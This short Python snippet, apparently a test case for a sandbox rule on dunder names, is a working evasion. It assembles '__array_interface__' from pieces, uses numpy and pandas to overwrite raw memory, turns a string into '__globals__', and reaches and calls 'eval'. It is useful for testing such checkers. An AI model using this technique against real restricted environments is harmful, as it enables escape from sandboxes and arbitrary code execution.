# A label that is put together becomes the memory protocol of numpy, and writes the name of an attribute over another.
k = max('__array_', '') + max('interface__', '')
t = 'types' + max('tr', '')
def memory(at, size):
    return np.asarray(pd.Series({k: {'data': (at, False), t: '|u1', 'shape': (size,), 'version': 3}}))
s = 'aaaaaaaaaaa'
def f():
    return f.aaaaaaaaaaa
memory(id(s) + 48, 11)[:] = [95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]
memory(id(s) + 24, 8)[:] = 255
for v in list(f().values()):
    if isinstance(v, dict) and 'eval' in v:
        v['eval']('1')
# rule: dunder-name
